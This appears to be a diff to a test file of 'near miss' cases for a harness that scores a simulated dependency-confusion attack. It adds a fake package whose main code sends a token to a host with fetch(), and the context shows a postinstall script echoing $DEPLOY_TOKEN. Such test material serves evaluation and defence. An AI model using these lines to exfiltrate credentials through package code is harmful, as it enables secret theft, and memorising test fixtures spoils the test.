@@ -43,6 +43,17 @@ export const nearMisses: NearMiss[] = [
       '+ crate-utils@99.0.0 from parcel-shed.example',
     ),
   ),
+  miss(
+    'the token goes to a port at which the rented host does not listen',
+    logs(
+      {
+        name: 'crate-utils',
+        version: '99.0.0',
+        main: `fetch('http://${HOST}:81/?' + ${TOKEN}).catch(() => {})`,
+      },
+      '+ crate-utils@99.0.0 from parcel-shed.example',
+    ),
+  ),
   miss('the token is printed in the log, which shows stars', async (tools) => {
     const parcel = { name: 'crate-utils', version: '99.0.0', scripts: { postinstall: 'echo $DEPLOY_TOKEN' } }
     const { log } = await buildWith(tools, HOST, parcel)
